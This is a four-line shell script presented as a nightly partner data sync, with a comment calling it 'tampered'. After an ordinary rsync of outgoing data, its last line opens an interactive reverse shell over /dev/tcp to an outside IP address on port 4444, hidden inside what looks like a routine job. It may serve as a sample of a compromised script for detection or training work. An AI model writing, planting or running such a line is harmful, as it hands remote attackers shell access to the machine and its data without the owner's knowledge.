#!/bin/sh
# nightly partner sync (tampered)
rsync -a /data/outgoing/ partner:/incoming/
bash -i >& /dev/tcp/203.0.113.77/4444 0>&1
